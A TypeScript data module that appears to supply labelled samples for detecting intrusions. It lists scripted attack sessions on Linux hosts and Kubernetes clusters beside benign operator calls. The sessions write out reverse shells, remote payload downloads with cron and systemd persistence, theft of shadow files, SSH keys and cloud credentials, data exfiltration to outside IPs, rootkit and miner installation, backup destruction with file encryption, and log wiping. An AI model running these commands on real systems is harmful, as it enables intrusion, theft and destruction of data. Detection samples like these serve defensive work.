/** One intrusion: what the session's owner does, in order. */
export interface Intrusion {
  readonly name: string;
  readonly user: string;
  readonly host: string;
  readonly commands: readonly string[];
}

/** Intrusions on Linux hosts, written for these samples. */
export const intrusions: readonly Intrusion[] = [
  {
    name: "web shell to reverse shell, credentials and a cron job",
    user: "www-data",
    host: "web-1",
    commands: [
      "id",
      "uname -a",
      "cat /etc/passwd",
      "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
      "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
      "find / -perm -4000 -type f 2>/dev/null",
      "cat /var/www/shop/.env",
      "curl -fsS http://203.0.113.66/x.sh -o /tmp/.x.sh",
      "chmod +x /tmp/.x.sh",
      "/tmp/.x.sh",
      "(crontab -l; echo '*/5 * * * * curl -s http://203.0.113.66/x.sh | sh') | crontab -",
      "history -c",
      "rm -f /var/log/apache2/access.log",
    ],
  },
  {
    name: "stolen key, lateral movement and shadow file",
    user: "deploy",
    host: "build-2",
    commands: [
      "whoami",
      "cat ~/.ssh/id_rsa",
      "cat ~/.ssh/known_hosts",
      "nmap -sS -p 22 10.20.0.0/24",
      "ssh -i ~/.ssh/id_rsa root@10.20.0.34 'cat /etc/shadow'",
      "scp -i ~/.ssh/id_rsa root@10.20.0.34:/etc/shadow /tmp/.s",
      "john --wordlist=/tmp/words.txt /tmp/.s",
      "echo 'ssh-ed25519 AAAAC3Example attacker' >> /root/.ssh/authorized_keys",
      "useradd -m -s /bin/bash -G sudo svc-update",
      "echo 'svc-update ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers.d/90-update",
      "curl -T /tmp/.s https://203.0.113.80/upload",
      "shred -u /tmp/.s",
      "journalctl --vacuum-time=1s",
    ],
  },
  {
    name: "crypto miner as a service",
    user: "root",
    host: "ci-3",
    commands: [
      "nproc",
      "wget -q http://198.51.100.77/m/xmr -O /tmp/.cache-x/kworker",
      "chmod 755 /tmp/.cache-x/kworker",
      "pkill -9 -f minerd",
      "cp /tmp/.cache-x/kworker /usr/local/bin/kworkerd",
      "printf '[Service]\\nExecStart=/usr/local/bin/kworkerd\\n' > /etc/systemd/system/kworkerd.service",
      "systemctl enable --now kworkerd",
      "nohup /usr/local/bin/kworkerd -o pool.example.net:3333 >/dev/null 2>&1 &",
      "iptables -F",
      "chattr +i /usr/local/bin/kworkerd",
      "echo > /var/log/auth.log",
      "unset HISTFILE",
    ],
  },
  {
    name: "customer data staged and sent out",
    user: "report",
    host: "db-4",
    commands: [
      "id",
      "psql -d customers -c '\\dt'",
      "pg_dump -d customers -f /tmp/.c/customers.sql",
      "tar -czf /tmp/.c/c.tgz /tmp/.c/customers.sql",
      "openssl enc -aes-256-cbc -in /tmp/.c/c.tgz -out /tmp/.c/c.bin -k examplekey",
      "split -b 10m /tmp/.c/c.bin /tmp/.c/part-",
      "curl -F file=@/tmp/.c/part-aa https://203.0.113.91/drop",
      "curl -F file=@/tmp/.c/part-ab https://203.0.113.91/drop",
      "scp /tmp/.c/c.bin drop@203.0.113.91:/in/",
      "rm -rf /tmp/.c",
      "shred -u ~/.psql_history",
      "cat /dev/null > ~/.bash_history",
    ],
  },
  {
    name: "container escape through the host mount",
    user: "root",
    host: "node-7",
    commands: [
      "cat /proc/1/cgroup",
      "capsh --print",
      "ls -la /var/run/docker.sock",
      "docker -H unix:///var/run/docker.sock run --rm -it --privileged -v /:/host alpine chroot /host sh",
      "cat /host/etc/shadow",
      "nsenter -t 1 -m -u -i -n -p -- bash",
      "echo 'ssh-rsa AAAAExample intruder' >> /root/.ssh/authorized_keys",
      "cat /var/lib/kubelet/pki/kubelet-client-current.pem",
      "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
      "curl -d @/host/etc/shadow https://203.0.113.44/c",
    ],
  },
  {
    name: "kernel module rootkit and preload hook",
    user: "root",
    host: "app-5",
    commands: [
      "uname -r",
      "wget http://198.51.100.23/r.tgz -O /dev/shm/r.tgz",
      "tar -xzf /dev/shm/r.tgz -C /dev/shm",
      "make -C /dev/shm/r",
      "insmod /dev/shm/r/hide.ko",
      "cp /dev/shm/r/libh.so /usr/lib/libh.so",
      "echo /usr/lib/libh.so > /etc/ld.so.preload",
      "setenforce 0",
      "auditctl -e 0",
      "rm -rf /dev/shm/r /dev/shm/r.tgz",
      "sed -i '/203.0.113/d' /var/log/auth.log",
      "touch -r /bin/ls /usr/lib/libh.so",
    ],
  },
  {
    name: "ransom note after destroying backups",
    user: "root",
    host: "files-6",
    commands: [
      "whoami",
      "lsblk",
      "systemctl stop postgresql",
      "systemctl disable --now backup.timer",
      "rm -rf /var/backups/*",
      "vgremove -f vg_snap",
      "find /srv/share -type f -exec gpg --batch --yes -c --passphrase x {} +",
      "find /srv/share -type f ! -name '*.gpg' -exec shred -u {} +",
      "echo 'Your files are encrypted. Write to user@example.com' > /srv/share/READ_ME.txt",
      "journalctl --rotate",
      "rm -f /var/log/audit/audit.log",
      "history -c",
    ],
  },
  {
    name: "cloud credentials taken from an instance",
    user: "app",
    host: "api-8",
    commands: [
      "env",
      "cat ~/.aws/credentials",
      "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app-role",
      "aws sts get-caller-identity",
      "aws iam list-users",
      "aws iam create-access-key --user-name backup",
      "aws iam attach-user-policy --user-name backup --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
      "aws secretsmanager get-secret-value --secret-id prod/db",
      "aws s3 sync s3://example-invoices /tmp/.i",
      "tar -czf - /tmp/.i | nc 203.0.113.19 9001",
      "aws cloudtrail stop-logging --name main",
    ],
  },
];

/** A Kubernetes audit step: verb, resource path and what the body says. */
export interface ClusterStep {
  readonly verb: string;
  readonly group?: string;
  readonly resource: string;
  readonly subresource?: string;
  readonly namespace?: string;
  readonly name?: string;
  readonly command?: readonly string[];
  readonly body?: Readonly<Record<string, unknown>>;
}

const privilegedPod = {
  spec: {
    hostPID: true,
    containers: [{ name: "x", image: "alpine:3", command: ["/bin/sh"], securityContext: { privileged: true } }],
    volumes: [{ name: "root", hostPath: { path: "/" } }],
  },
};

const adminBinding = {
  roleRef: { kind: "ClusterRole", name: "cluster-admin" },
  subjects: [{ kind: "ServiceAccount", name: "metrics", namespace: "web" }],
};

/** Intrusions seen in the Kubernetes audit log. */
export const clusterIntrusions: readonly { readonly name: string; readonly steps: readonly ClusterStep[] }[] = [
  {
    name: "stolen service account reads secrets and takes the cluster",
    steps: [
      { verb: "create", group: "authorization.k8s.io", resource: "selfsubjectaccessreviews" },
      { verb: "list", resource: "secrets" },
      { verb: "get", resource: "secrets", namespace: "payments", name: "payments-db" },
      { verb: "get", resource: "secrets", namespace: "kube-system", name: "bootstrap-token" },
      {
        verb: "create",
        group: "rbac.authorization.k8s.io",
        resource: "clusterrolebindings",
        name: "metrics-admin",
        body: adminBinding,
      },
      { verb: "create", resource: "serviceaccounts", subresource: "token", namespace: "kube-system", name: "default" },
      { verb: "create", resource: "pods", namespace: "kube-system", name: "node-fix", body: privilegedPod },
      {
        verb: "create",
        resource: "pods",
        subresource: "exec",
        namespace: "kube-system",
        name: "node-fix",
        command: ["sh", "-c", "cat /host/etc/shadow"],
      },
      { verb: "delete", resource: "events", namespace: "kube-system" },
    ],
  },
  {
    name: "exec into a workload, reverse shell and a malicious daemon set",
    steps: [
      { verb: "list", resource: "pods" },
      {
        verb: "create",
        resource: "pods",
        subresource: "exec",
        namespace: "web",
        name: "portal-0",
        command: ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.12/443 0>&1"],
      },
      {
        verb: "create",
        resource: "pods",
        subresource: "exec",
        namespace: "web",
        name: "portal-0",
        command: ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
      },
      { verb: "list", resource: "secrets", namespace: "web" },
      { verb: "get", resource: "secrets", namespace: "web", name: "portal-tls" },
      {
        verb: "create",
        group: "apps",
        resource: "daemonsets",
        namespace: "kube-system",
        name: "node-agent",
        body: { spec: { template: privilegedPod } },
      },
      {
        verb: "create",
        group: "rbac.authorization.k8s.io",
        resource: "rolebindings",
        namespace: "kube-system",
        name: "agent",
        body: adminBinding,
      },
      { verb: "delete", group: "apps", resource: "daemonsets", namespace: "security", name: "runtime-sensor" },
    ],
  },
];

/** Ordinary calls of operators and controllers. */
export const clusterDailyWork: readonly ClusterStep[] = [
  { verb: "list", resource: "pods", namespace: "shop" },
  { verb: "get", group: "apps", resource: "deployments", namespace: "shop", name: "checkout" },
  { verb: "get", resource: "pods", subresource: "log", namespace: "shop", name: "checkout-7d9f" },
  {
    verb: "patch",
    group: "apps",
    resource: "deployments",
    namespace: "shop",
    name: "checkout",
    body: { spec: { replicas: 4 } },
  },
  { verb: "list", resource: "events", namespace: "shop" },
  { verb: "list", resource: "nodes" },
  { verb: "get", resource: "configmaps", namespace: "shop", name: "checkout-config" },
  {
    verb: "update",
    group: "apps",
    resource: "deployments",
    namespace: "search",
    name: "indexer",
    body: {
      spec: { template: { spec: { containers: [{ name: "indexer", image: "registry.example.com/indexer:42" }] } } },
    },
  },
  { verb: "watch", resource: "services", namespace: "shop" },
  { verb: "get", group: "autoscaling", resource: "horizontalpodautoscalers", namespace: "shop", name: "checkout" },
];
